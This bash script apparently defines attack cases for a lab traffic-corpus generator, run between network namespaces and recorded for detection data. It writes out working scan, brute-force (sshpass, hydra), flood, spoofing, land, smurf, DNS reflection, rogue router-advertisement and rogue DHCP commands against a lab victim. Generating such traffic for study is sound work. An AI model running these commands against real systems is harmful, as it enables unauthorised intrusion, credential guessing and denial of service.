# The attacks; for corpus.sh. A case says what it is, starts what must be there, calls `record`, and attacks.
# shellcheck disable=SC2034,SC2046,SC2086,SC2119,SC2120 # record.sh reads the variables; words are split on purpose

NMAP=(nmap -n -Pn --max-retries 0)

# An nmap scan of $3... from the attacker; $1 is its type.
nmap_scan() {
    attack "$1" "nmap $(version nmap)" "$ATTACKER"
    record
    from attacker "${NMAP[@]}" "${@:2}" "$VICTIM"
}

case_nmap_syn() { nmap_scan tcp_syn -sS -p "$(commas 22 $(ports 30))"; }
case_nmap_fin() { nmap_scan tcp_fin -sF -p "$(commas $(ports 18))"; }
case_nmap_null() { nmap_scan tcp_null -sN -p "$(commas $(ports 18))"; }
case_nmap_xmas() { nmap_scan tcp_xmas -sX -p "$(commas $(ports 18))"; }
case_nmap_maimon() { nmap_scan tcp_maimon -sM -p "$(commas $(ports 18))"; }
case_nmap_ack() { nmap_scan tcp_ack -sA -p "$(commas $(ports 22))"; }
case_nmap_window() { nmap_scan tcp_window -sW -p "$(commas $(ports 22))"; }
case_nmap_connect() { nmap_scan tcp_connect -sT -p "$(commas 80 $(ports 22))"; }
case_nmap_udp() { nmap_scan udp_scan -sU -p "$(commas $(shuffled 53 69 111 123 137 161 500 514 1434 1900 5353 $(ports 14)))"; }
case_nmap_sctp() { nmap_scan sctp_init -sY -p "$(commas $(ports 18))"; }
case_nmap_cookie() { nmap_scan sctp_cookie_echo -sZ -p "$(commas $(ports 18))"; }
case_nmap_protocols() { nmap_scan ip_proto -sO -p "$(commas $(shuffled 2 4 8 41 47 50 51 88 89 103 112 115 132 $(ports 15 140 250)))"; }
case_nmap_os() { nmap_scan os_fingerprint -O --osscan-guess --max-os-tries 1 -p "$(commas 22 $(ports 6))"; }
case_nmap_synfin() { nmap_scan tcp_synfin -sS --scanflags SYNFIN -p "$(commas $(ports 18))"; }
case_nmap_psh() { nmap_scan tcp_bad_flags -sS --scanflags PSH -p "$(commas $(ports 18))"; }
case_nmap_urg() { nmap_scan tcp_bad_flags -sS --scanflags URG -p "$(commas $(ports 18))"; }
case_nmap_synack() { nmap_scan tcp_synack -sS --scanflags SYNACK -p "$(commas $(ports 22))"; }
case_nmap_rst() { nmap_scan tcp_rst -sS --scanflags RST -p "$(commas $(ports 22))"; }
case_nmap_badsum() { nmap_scan tcp_syn_badsum -sS --badsum -p "$(commas $(ports 18))"; }
case_nmap_port53() { nmap_scan tcp_syn_srcport -sS -g "$(one_of 53 20 80 443 88)" -p "$(commas $(ports 18))"; }
case_nmap_polite() { nmap_scan tcp_syn -sS -T2 -p "$(commas $(ports 16))"; }

case_nmap_version() {
    beside victim ncat -lk "$VICTIM" 80 --sh-exec "printf 'HTTP/1.0 200 OK\r\nServer: x\r\n\r\n'"
    listening victim 80
    nmap_scan tcp_syn+version -sS -sV --version-light -p "$(commas 80 $(ports 20))"
}

case_nmap_sneaky() {
    STRETCH=$(pick 12 18)
    note "nmap -T1 waits 15 s from probe to probe; here it waited one."
    nmap_scan tcp_syn_slow -sS --scan-delay 1s --max-scan-delay 1s -p "$(commas $(ports 14))"
}

case_nmap_syn_v6() {
    attack tcp_syn "nmap $(version nmap)" "$ATTACKER6"
    record
    from attacker "${NMAP[@]}" -6 -sS -p "$(commas 22 $(ports 22))" "$VICTIM6"
}

case_nmap_udp_v6() {
    attack udp_scan "nmap $(version nmap)" "$ATTACKER6"
    record
    from attacker "${NMAP[@]}" -6 -sU -p "$(commas $(shuffled 53 123 161 500 5353 $(ports 10)))" "$VICTIM6"
}

case_nmap_decoys() {
    local decoys=() net
    for net in $WAN $WEB $ELSEWHERE $WAN $WEB $ELSEWHERE; do decoys+=("$net.$(pick 201 254)"); done
    attack tcp_syn_decoy "nmap $(version nmap)" "$ATTACKER" "${decoys[@]}"
    note "Only the first source is the scanner; the others are its decoys."
    record
    from attacker "${NMAP[@]}" -sS -D "$(commas "${decoys[@]:0:3}" ME "${decoys[@]:3}")" -p "$(commas $(ports 9))" "$VICTIM"
}

case_nping_spoofed() {
    local source
    source=$ELSEWHERE.$(pick 1 254)
    attack tcp_syn "nping $(version nmap)" "$source"
    note "The source is not the scanner's own, so it sees no answer."
    record
    from attacker nping --tcp -S "$source" -p "$(commas $(ports 22))" --flags syn -c 1 --rate "$(pick 20 60)" "$VICTIM"
}

case_nmap_fragments() { nmap_scan tcp_syn_frag -sS -f -p "$(commas $(ports 20))"; }

case_nmap_fragments_early() {
    EARLY="ip frag-off & 0x3fff != 0"
    note "A chain before reassembly logs and drops the fragments."
    nmap_scan tcp_syn_frag -sS -f -p "$(commas $(ports 20))"
}

case_nmap_ping_sweep() {
    attack ping_sweep "nmap $(version nmap)" "$ATTACKER"
    record
    from attacker nmap -n -sn $(shuffled "${OWN[@]}")
}

case_nmap_ping_types() {
    attack ping_types "nmap $(version nmap)" "$ATTACKER"
    record
    from attacker nmap -n -sn -PE -PP -PM --max-retries 1 $(shuffled "${OWN[@]:0:4}")
}

case_nmap_discovery_v6() {
    attack ipv6_host_discovery "nmap $(version nmap)" "$ATTACKER6"
    record
    from attacker nmap -n -6 -sn $(shuffled "${OWN6[@]}")
}

case_masscan() {
    local source gateway
    source=$WAN.$(pick 10 250)
    gateway=$(ip -n router -br link show wan | awk '{print $3}')
    attack tcp_syn "masscan $(version masscan)" "$source"
    record
    from attacker masscan "$VICTIM" -p "$(commas $(ports 30))" --rate "$(pick 100 300)" -e "$CARD" --adapter-ip "$source" \
        --adapter-mac "$(ip -n attacker -br link show "$CARD" | awk '{print $3}')" --router-mac "$gateway" --wait 1 --seed "$(pick 1 99999)"
}

case_zmap_sweep() {
    local gateway
    gateway=$(ip -n router -br link show wan | awk '{print $3}')
    attack horizontal_sweep "zmap $(version zmap)" "$ATTACKER"
    printf '%s\n' $(shuffled "${OWN[@]}") >"$WORK/targets"
    record
    from attacker zmap -p "$(one_of 23 2323 3389 8080 5555)" -i "$CARD" -G "$gateway" -S "$ATTACKER" -r "$(pick 10 40)" -c 1 \
        -b /dev/null -o /dev/null -w "$WORK/targets"
}

case_hping_scan() {
    attack tcp_syn "hping3 $(version hping3)" "$ATTACKER"
    record
    from attacker hping3 --scan "$(commas $(ports 9))" -S "$VICTIM"
}

case_nping() {
    attack tcp_syn "nping $(version nmap)" "$ATTACKER"
    record
    from attacker nping --tcp -p "$(commas $(ports 30))" --flags syn -c 1 --rate "$(pick 20 60)" "$VICTIM"
}

case_nc_loop() {
    local port
    attack tcp_connect "netcat $(version netcat-openbsd)" "$ATTACKER"
    record
    for port in $(ports 16); do from attacker nc -z -w 1 "$VICTIM" "$port" & sleep 0.2; done
    sleep 1.2
}

case_python_connect() {
    attack tcp_connect "python asyncio" "$ATTACKER"
    record
    craft attacker connect "$(commas 80 $(ports 36))" "$(pick 20 60)" 0 "$VICTIM"
}

# One port of each of the victim's addresses.
sweep() {
    attack "$1" "nmap $(version nmap)" "$ATTACKER"
    record
    from attacker "${NMAP[@]}" "${@:2}" $(shuffled "${OWN[@]}")
}
case_sweep_smb() { sweep horizontal_sweep -sS -p 445; }
case_sweep_ssh() { sweep horizontal_sweep -sT -p 22; }
case_sweep_snmp() { sweep snmp_sweep -sU -p 161; }
case_sweep_sip() { sweep sip_sweep -sU -p 5060 -g 5060; }

case_sweep_ike() {
    attack ike_sweep "ike-scan $(version ike-scan)" "$ATTACKER"
    record
    from attacker ike-scan --retry=2 --sport=0 $(shuffled "${OWN[@]}")
}

# An sshd at the victim, whose root has a password that nobody knows.
sshd() {
    mkdir -p /run/sshd
    [ -e "$WORK/host" ] || ssh-keygen -q -t ed25519 -N '' -f "$WORK/host"
    beside victim /usr/sbin/sshd -D -e -f /dev/null -h "$WORK/host" -o UsePAM=no -o PasswordAuthentication=yes \
        -o PermitRootLogin=yes -o MaxStartups=200 -o PidFile=none -o StrictModes=no "$@"
    listening victim 22
}

SSH=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR)

case_brute_ssh() {
    local n
    sshd
    attack brute_force "ssh $(version openssh-client), sshpass" "$ATTACKER"
    KEEP=380 SNAP=80
    record
    for n in $(seq 20); do
        from attacker sshpass -p "secret$n" ssh "${SSH[@]}" -o NumberOfPasswordPrompts=1 "root@$VICTIM" true &
        pause 150 450
    done
    sleep 2
}

case_brute_hydra() {
    sshd
    seq -f 'word%.0f' 300 >"$WORK/words"
    attack brute_force "hydra $(version hydra)" "$ATTACKER"
    KEEP=360 SNAP=80
    record
    from attacker hydra -I -l root -P "$WORK/words" -t "$(pick 12 16)" "ssh://$VICTIM"
}

case_brute_slow() {
    local n
    sshd
    attack brute_force_slow "ssh $(version openssh-client), sshpass" "$ATTACKER"
    KEEP=420 SNAP=72 STRETCH=$(pick 12 20)
    record
    for n in $(seq 22); do
        from attacker sshpass -p "secret$n" ssh "${SSH[@]}" -o NumberOfPasswordPrompts=1 "root@$VICTIM" true &
        pause 400 900
    done
    sleep 1
}

case_brute_rdp() {
    local n
    attack brute_force "bash /dev/tcp" "$ATTACKER"
    note "A firewall that drops the port which is asked again and again."
    record
    for n in $(seq 45); do
        from attacker timeout 0.3 bash -c "exec 3<>/dev/tcp/$VICTIM/3389" &
        pause 80 250
    done
    sleep 0.3
}

case_mirai() {
    attack iot_worm "scapy $(version python3-scapy)" "$ATTACKER"
    CRAFTED=1
    record
    craft attacker mirai "$(pick 1 99999)" $(shuffled "${OWN[@]}" "${OWN[@]:0:4}")
}

case_land() {
    local port
    port=$(one_of 139 445 80 135)
    EARLY="ip saddr $VICTIM" THEN=
    attack land "hping3 $(version hping3)" "$VICTIM"
    record
    from near hping3 -S -a "$VICTIM" -p "$port" -s "$port" -k -i "u$(pick 10000 40000)" -c 30 -q "$VICTIM"
}

case_bogon() {
    local source
    attack bogon_source "hping3 $(version hping3)" bogons
    EARLY="ip saddr { 127.0.0.0/8, 0.0.0.0/8, 240.0.0.0/4, 224.0.0.0/4 }" THEN=
    record
    for source in $(shuffled "127.0.$(pick 0 99).$(pick 2 99)" "0.$(pick 1 9).2.3" "24$(pick 0 9).1.2.$(pick 1 99)" "224.0.0.$(pick 3 99)" 255.255.255.255); do
        from near hping3 -S -a "$source" -p "$(one_of 445 80 23)" -i u10000 -c 4 -q "$VICTIM"
    done
}

case_smurf() {
    local source
    source=$LAN.$(pick 210 254)
    attack smurf "hping3 $(version hping3)" "$source"
    note "The source is whom the answers shall hit; we are one of those that shall answer."
    KEEP=60
    record
    from near hping3 --icmp -a "$source" -i u2000 -c 250 -q "$BROADCAST"
}

# At most 1500 packets in some three seconds; the first 280 or 320 are kept.
flood() { from attacker hping3 -i u2000 -c 1500 -q "$@" "$VICTIM"; }

case_syn_flood() {
    attack syn_flood "hping3 $(version hping3)" "$ATTACKER"
    KEEP=280 SNAP=64
    record
    flood -S -p "$(one_of 25 443 3306 8080)"
}

case_syn_flood_spoofed() {
    attack syn_flood_spoofed "hping3 $(version hping3)" random
    KEEP=320 SNAP=64
    record
    flood -S -p 80 --rand-source
}

case_udp_flood() {
    attack udp_flood "hping3 $(version hping3)" "$ATTACKER"
    KEEP=280 SNAP=64
    record
    flood -2 -p "$(pick 1024 60000)" -d 64
}

case_icmp_flood() {
    attack icmp_flood "hping3 $(version hping3)" "$ATTACKER"
    KEEP=280 SNAP=64
    record
    flood --icmp
}

case_dns_reflection() {
    attack udp_reflection_flood "scapy $(version python3-scapy)" "resolvers"
    KEEP=280 SNAP=64 CRAFTED=1
    record
    craft attacker reflected "$(pick 1 99999)" "$VICTIM" 900 500 $WAN $ELSEWHERE
}

# A web server at the victim.
web() {
    cat >"$WORK/nginx.conf" <<N
user root; daemon off; error_log /dev/null; pid $WORK/nginx.pid; worker_processes 1; events { worker_connections 1024; }
http { access_log off; server { listen ${2:-80}; root $WORK; ${3-} } }
N
    head -c 200 /dev/urandom >"$WORK/page"
    beside "$1" nginx -c "$WORK/nginx.conf"
    listening "$1" "${2:-80}"
}

case_http_flood() {
    web victim
    attack http_flood "ab $(version apache2-utils)" "$ATTACKER"
    KEEP=950 SNAP=64
    record
    from attacker ab -q -n 900 -c "$(pick 30 60)" "http://$VICTIM/page"
}

case_slow_http() {
    web victim
    attack http_slow_dos "slowhttptest $(version slowhttptest)" "$ATTACKER"
    KEEP=400 SNAP=80
    record
    from attacker slowhttptest -H -c 120 -r 40 -i 1 -l 5 -u "http://$VICTIM/"
}

case_distributed() {
    local sources=() n
    for n in $(shuffled $(seq 2 254)); do
        [ ${#sources[@]} -lt 48 ] || break
        [ "$WAN.$n" = "$ATTACKER" ] || sources+=("$WAN.$n")
    done
    for n in "${sources[@]}"; do ip -n attacker addr add "$n/32" dev "$CARD"; done
    attack tcp_connect_distributed "python sockets" "${sources[@]}"
    record
    craft attacker distributed "$(pick 1 99999)" "$VICTIM" "$(commas $(ports 40))" "${sources[@]}"
}

# The link-local address of namespace $1's card $2.
link_local() { ip -n "$1" -6 -br addr show dev "$2" scope link | awk '{sub("/.*", "", $3); print $3}'; }

# A router that announces prefix $3 on card $2 of namespace $1.
radvd_on() {
    printf 'interface %s { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; %s prefix %s { }; };\n' "$2" "${4-}" "$3" >"$WORK/radvd-$1"
    ip netns exec "$1" sysctl -qw net.ipv6.conf.all.forwarding=1
    beside "$1" radvd -n -m stderr -u root -C "$WORK/radvd-$1" -p "$WORK/radvd-$1.pid"
}

case_rogue_ra() {
    attack rogue_ra "radvd $(version radvd)" "$(link_local near "$CARD")"
    note "The house's router ($(link_local router br0)) announces itself from the start; the source does so some seconds later."
    record
    radvd_on router br0 "$LAN6::/64"
    pause 4000 6000
    radvd_on near "$CARD" "2001:db8:$(group):$(group)::/64" "AdvDefaultPreference high;"
    sleep 8
}

case_ra_flood() {
    # Its packets are of some 1200 bytes; the tool itself knows no limit.
    ip netns exec near tc qdisc add dev "$CARD" root tbf rate 3mbit burst 8kb limit 64kb
    attack ra_flood "thc-ipv6 $(version thc-ipv6) flood_router26" random
    KEEP=60 SNAP=112
    record
    from near timeout --signal=INT 1.5 atk6-flood_router26 "$CARD"
}

# A DHCP server on card $2 of namespace $1; $3 is its own network's beginning.
dhcpd() {
    beside "$1" dnsmasq --no-daemon --conf-file=/dev/null --port=0 --interface="$2" --bind-interfaces --dhcp-range="$3.220,$3.250,2m" \
        --dhcp-leasefile="$WORK/leases-$1" --dhcp-broadcast --dhcp-authoritative --no-ping "${@:4}"
}

case_rogue_dhcp() {
    dhcpd router br0 "$LAN"
    attack rogue_dhcp "dnsmasq $(version dnsmasq-base), udhcpc" "$NEAR"
    note "The house's own server is $LAN.1; the source is a second one, which names itself the router. The client is the victim."
    record
    from victim udhcpc -f -n -q -i "$CARD" -s /bin/true -t 2 -T 1
    dhcpd near "$CARD" "$LAN" --dhcp-option="option:router,$NEAR" --dhcp-option="option:dns-server,$NEAR"
    sleep 1
    for _ in 1 2 3; do from victim udhcpc -f -n -q -i "$CARD" -s /bin/true -t 2 -T 1; done
}
